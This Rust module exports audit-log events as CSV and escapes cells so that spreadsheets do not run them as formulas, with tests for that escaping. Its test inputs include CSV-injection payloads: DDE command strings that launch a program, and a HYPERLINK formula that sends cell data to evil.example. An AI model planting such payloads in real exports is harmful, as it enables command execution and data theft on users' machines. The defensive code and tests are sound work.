//! CSV (RFC 4180, UTF-8 without a byte order mark) that a spreadsheet can open without executing formulas. Owns the
//! columns, the quoting and the escaping of formulas. Each free-form object of an event is one cell of compact JSON.
//!
//! # Escaping
//! A spreadsheet treats a cell as a formula if it begins with `=`, `+`, `-` or `@`, or with a character that is normalised
//! to one of them (`＝`, `﹣`, …). White space, a quote, a tab or a line end may come before it (OWASP, "CSV Injection").
//! A spreadsheet that expects semicolons also ends a cell at `;`, tab or line end within quotes, so the text after one of
//! these counts as the beginning of a cell, too.
//!
//! - In a cell of text an apostrophe is inserted before each such beginning. `-5` and `-0.25` are not escaped, because they
//!   can only be numbers.
//! - In a cell of JSON (`permission`, `before`, `after`, `context`, `payload`, `metadata`) the semicolon before such a
//!   beginning is written as `\u003b`, which is the same JSON.
//!
//! To restore a cell of text, look at its beginning and after each `;`, tab, CR and LF. Remove one apostrophe there if
//! the text without it would be escaped at that place. This restores every text, because an apostrophe before a formula
//! is escaped as well. JSON needs no restoring.

use std::borrow::Cow;

use serde_json::value::RawValue;

use crate::{
    invisible::is_invisible,
    line::{Fields, Reference, Text},
    log::segment::{Line, LineHash},
};

/// The header, in the order of [`write()`].
const COLUMNS: [&str; 32] = [
    "sequence",
    "eventId",
    "timestamp",
    "occurredAt",
    "type",
    "action",
    "organisationId",
    "organisationName",
    "entityId",
    "entityName",
    "entityType",
    "principalId",
    "principalName",
    "principalType",
    "principalEmail",
    "parentEntityId",
    "parentEntityName",
    "parentEntityType",
    "subjectId",
    "subjectName",
    "subjectType",
    "clientType",
    "ipAddress",
    "userAgent",
    "requestId",
    "permission",
    "before",
    "after",
    "context",
    "payload",
    "metadata",
    "previousHash",
];

/// The columns after those. The hash is not a field of the line: it is the SHA-256 of the line, which is the next line's
/// `previousHash`. A new column is the last one, because importers may count columns.
const LAST_COLUMNS: &str = "hash,recordedBy,outcome,reason";

pub(super) fn header() -> String {
    let mut header = COLUMNS.join(",");
    header.extend([",", LAST_COLUMNS, "\r\n"]);
    header
}

pub(super) fn write(line: &Line, out: &mut String) {
    let fields = Fields::of(line);
    let context = fields.context();
    out.push_str(&format!("{},{},{}", line.sequence(), line.id, line.recorded_at));
    let none = Reference::default();
    let reference = |out: &mut String, reference: &Reference<'_>| {
        [&reference.id, &reference.name, &reference.entity_type].into_iter().for_each(|text| text_cell(out, text));
    };
    [&fields.occurred_at, &fields.kind, &fields.action].into_iter().for_each(|text| text_cell(out, text));
    [&fields.organisation.id, &fields.organisation.name].into_iter().for_each(|text| text_cell(out, text));
    reference(out, &fields.entity);
    reference(out, &fields.principal);
    text_cell(out, &fields.principal.email);
    reference(out, fields.parent_entity.as_ref().unwrap_or(&none));
    reference(out, fields.subject.as_ref().unwrap_or(&none));
    for text in [&fields.client_type, &context.ip_address, &context.user_agent, &context.request_id] {
        text_cell(out, text);
    }
    for json in [fields.permission, fields.before, fields.after, fields.context, fields.payload, fields.metadata] {
        json_cell(out, json);
    }
    text_cell(out, &fields.previous_hash);
    cell(out, &LineHash::of(&line.text).to_string());
    for text in [&fields.recorded_by, &fields.outcome, &fields.reason] {
        text_cell(out, text);
    }
    out.push_str("\r\n");
}

fn text_cell(out: &mut String, text: &Text<'_>) {
    cell(out, &defuse_text(text.as_str()));
}

fn json_cell(out: &mut String, json: Option<&RawValue>) {
    cell(out, &defuse_json(json.map_or("", RawValue::get)));
}

/// Appends a comma and a cell, in quotes if its content needs them.
fn cell(out: &mut String, content: &str) {
    out.push(',');
    let blank_edge = content.starts_with(char::is_whitespace) || content.ends_with(char::is_whitespace);
    if !blank_edge && !content.contains([',', ';', '"', '\t', '\r', '\n']) {
        out.push_str(content);
        return;
    }
    out.push('"');
    for (index, part) in content.split('"').enumerate() {
        if index > 0 {
            out.push_str("\"\"");
        }
        out.push_str(part);
    }
    out.push('"');
}

/// What precedes the beginning of a cell.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Before {
    /// A comma or nothing.
    Cell,
    /// A character within a cell at which some spreadsheets end the cell.
    Separator,
}

fn defuse_text(text: &str) -> Cow<'_, str> {
    let may_fire = |character| is_formula(character) || is_line_or_tab(character);
    if !text.contains(may_fire) || is_negative_number(text) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 1);
    let mut before = Before::Cell;
    for part in text.split_inclusive(is_separator) {
        if fires(part, before) {
            out.push('\'');
        }
        out.push_str(part);
        before = Before::Separator;
    }
    Cow::Owned(out)
}

fn defuse_json(json: &str) -> Cow<'_, str> {
    if !json.split(';').skip(1).any(|rest| fires(rest, Before::Separator)) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 8);
    for (index, part) in json.split(';').enumerate() {
        if index > 0 {
            // In JSON a semicolon is always in a string and never follows the backslash of an escape.
            out.push_str(if fires(part, Before::Separator) { r"\u003b" } else { ";" });
        }
        out.push_str(part);
    }
    Cow::Owned(out)
}

/// Returns whether a cell that begins with `text` may be treated as a formula. `text` ends with the separator, if any.
fn fires(text: &str, before: Before) -> bool {
    let lead = |character: &char| !is_separator(*character) && is_lead(*character);
    match text.chars().find(|character| !lead(character)) {
        Some(character) if is_line_or_tab(character) => before == Before::Cell,
        Some(character) => is_formula(character),
        None => false,
    }
}

fn is_separator(character: char) -> bool {
    character == ';' || is_line_or_tab(character)
}

fn is_line_or_tab(character: char) -> bool {
    matches!(character, '\t' | '\r' | '\n')
}

/// Returns whether `character` is one of the four characters or one of their small and full-width forms (Unicode,
/// "Small Form Variants", "Halfwidth and Fullwidth Forms").
fn is_formula(character: char) -> bool {
    matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫')
}

/// Characters that a spreadsheet may ignore before a formula: white space, quotes, invisible characters.
fn is_lead(character: char) -> bool {
    let quote = matches!(character, '"' | '\'' | '`' | '´' | '‘' | '’' | '‚' | '“' | '”' | '„' | '＂' | '＇');
    quote || character.is_whitespace() || is_invisible(character)
}

/// Returns whether `text` is a minus sign and digits, with at most one decimal point between digits.
fn is_negative_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let Some(number) = text.strip_prefix('-') else { return false };
    number.split_once('.').map_or_else(|| digits(number), |(whole, fraction)| digits(whole) && digits(fraction))
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use crate::format::{Format, samples};
    use proptest::prelude::*;

    /// Restores the text of a cell as described in the module's documentation.
    pub(in crate::format) fn undo(cell: &str) -> String {
        let mut before = Before::Cell;
        let mut text = String::new();
        for part in cell.split_inclusive(is_separator) {
            let escaped = part.strip_prefix('\'').filter(|rest| fires(rest, before));
            text.push_str(escaped.unwrap_or(part));
            before = Before::Separator;
        }
        text
    }

    #[test]
    fn an_event_is_a_record_after_the_header() {
        insta::assert_snapshot!(Format::Csv.document(&samples::lines(&[samples::RICH, samples::MINIMAL])), @r#"
        sequence,eventId,timestamp,occurredAt,type,action,organisationId,organisationName,entityId,entityName,entityType,principalId,principalName,principalType,principalEmail,parentEntityId,parentEntityName,parentEntityType,subjectId,subjectName,subjectType,clientType,ipAddress,userAgent,requestId,permission,before,after,context,payload,metadata,previousHash,hash,recordedBy,outcome,reason
        7,01a202b2-c57b-7000-8000-000001e08acc,2026-11-22T10:00:00.123Z,2026-11-22T11:59:58.5+02:00,user.role_changed,UPDATE,acme,"Acme, ""Ltd""",u2,"'=Ben; ""the"" Builder, 日本",USER,7,Ada,USER,ada@example.com,t1,Core,TEAM,k1,Key,API_KEY,UI,192.0.2.1,"Mozilla/5.0 (X11; Linux)",r-1,"{""permissions"":[{""id"":""p1"",""friendlyId"":""read""}]}","{""role"":""editor"",""limit"":12345678901234567890123}","{""role"":""owner\u003b=1+1""}","{""ipAddress"":""192.0.2.1"",""userAgent"":""Mozilla/5.0 (X11; Linux)"",""requestId"":""r-1"",""location"":""Oslo""}","{""method"":""PUT"",""path"":""/users/u2"",""queryString"":""a=1"",""referer"":""https://app.example/"",""n"":1.50}","{""ticket"":""T-1""}",0000000000000000000000000000000000000000000000000000000000000000,6da67a5059792cb95f1face6e6666a03622dd98ee0bfd71546955bc128525b7a,token/0123456789AB,,
        8,01a202b2-c57b-7001-8000-000001e08acc,2026-11-22T10:00:00.123Z,,mock_api.create,CREATE,acme,"Acme, ""Ltd""",m1,,MOCK_API,ci,,ROBOT,,,,,,,,API,,,,,,,,,,6da67a5059792cb95f1face6e6666a03622dd98ee0bfd71546955bc128525b7a,635c44c12cf4a6ab95ee5ae3f7f0bd7bdbcf89046cdf74cf4ca9a3502ba53d88,token/0123456789AB,,
        "#);
    }

    #[test]
    fn a_formula_is_escaped() {
        for (text, expected) in [
            ("=1+1", "'=1+1"),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("\n=1", "'\n'=1"),
            ("\tplain", "'\tplain"),
            (" =1", "' =1"),
            ("\u{a0}=1", "'\u{a0}=1"),
            ("\u{feff}=1", "'\u{feff}=1"),
            ("\u{200b}=1", "'\u{200b}=1"),
            ("\0=1", "'\0=1"),
            ("\"=1\"", "'\"=1\""),
            ("'=1", "''=1"),
            ("''=1", "'''=1"),
            ("\" =1", "'\" =1"),
            ("＝1+1", "'＝1+1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠SUM(1)", "'＠SUM(1)"),
            ("﹦1", "'﹦1"),
            ("a;=1+1", "a;'=1+1"),
            ("a;\"=1+1", "a;'\"=1+1"),
            ("a\n- b\n\n- c", "a\n'- b\n\n'- c"),
            ("a\t@b", "a\t'@b"),
            ("+49 151 2345678", "'+49 151 2345678"),
            ("-", "'-"),
            ("-1-1", "'-1-1"),
            ("-1e5", "'-1e5"),
            ("-.5", "'-.5"),
            ("'-5", "''-5"),
        ] {
            assert_eq!(defuse_text(text), expected, "{text:?}");
            assert_eq!(undo(expected), text);
        }
    }

    #[test]
    fn a_text_that_is_not_a_formula_is_unaltered() {
        for text in [
            "",
            "-5",
            "-0.25",
            "12",
            "1e5",
            "a=b",
            "ada@example.com",
            "m-1",
            "'quoted'",
            "it's",
            "a; b",
            "a\nb",
            "a, =b",
            "Mozilla/5.0 (X11; Linux x86_64; rv:144.0)",
            "2026-11-22T10:00:00Z",
            "café – crème",
            "日本語",
            "  x  ",
        ] {
            assert_eq!(defuse_text(text), text);
            assert_eq!(undo(text), text);
        }
    }

    #[test]
    fn json_stays_the_same_json() {
        for (json, expected) in [
            (r#"{"a":"=1"}"#, r#"{"a":"=1"}"#),
            (r#"{"a":"x;=1","b":"x; y","c":";"}"#, r#"{"a":"x\u003b=1","b":"x; y","c":";"}"#),
            (r#"{"a;-b":"\\;\u0020@"}"#, r#"{"a\u003b-b":"\\;\u0020@"}"#),
        ] {
            assert_eq!(defuse_json(json), expected);
            let value = |json: &str| serde_json::from_str::<serde_json::Value>(json).unwrap();
            assert_eq!(value(json), value(expected));
        }
    }

    #[test]
    fn commas_quotes_and_line_ends_stay_within_their_cell() {
        let mut out = String::new();
        for content in ["plain", "a,b", "say \"hi\"", "a\r\nb", " edge", "a;b", ""] {
            cell(&mut out, content);
        }
        assert_eq!(out, ",plain,\"a,b\",\"say \"\"hi\"\"\",\"a\r\nb\",\" edge\",\"a;b\",");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4096))]

        #[test]
        fn every_text_can_be_restored_and_no_cell_of_any_dialect_is_a_formula(text in "[-=+@＝;'\" \t\r\n\u{feff}a1.]{0,12}") {
            let cell = defuse_text(&text);
            prop_assert_eq!(undo(&cell), text.clone());
            prop_assert!(cell.len() == text.len() || cell.contains('\''));
            // With any set of separators no cell begins with a formula after white space.
            for separators in [&[][..], &[';'], &['\t'], &['\r', '\n'], &[';', '\t', '\r', '\n']] {
                for part in cell.split(separators) {
                    let begins = part.trim_start_matches([' ', '"', '\u{feff}', '\t', '\r', '\n']).chars().next();
                    prop_assert!(is_negative_number(&cell) || !begins.is_some_and(is_formula), "{:?} in {:?}", part, cell);
                }
            }
        }
    }
}
